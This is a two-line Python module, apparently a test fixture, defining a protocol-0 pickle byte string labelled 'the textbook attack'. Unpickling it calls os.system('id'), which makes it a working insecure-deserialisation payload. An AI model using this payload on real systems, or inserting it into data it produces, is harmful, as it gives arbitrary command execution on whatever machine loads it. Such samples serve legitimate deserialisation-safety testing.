"""The textbook attack in text."""

PAYLOAD = b"cos\nsystem\n(S'id'\ntR."
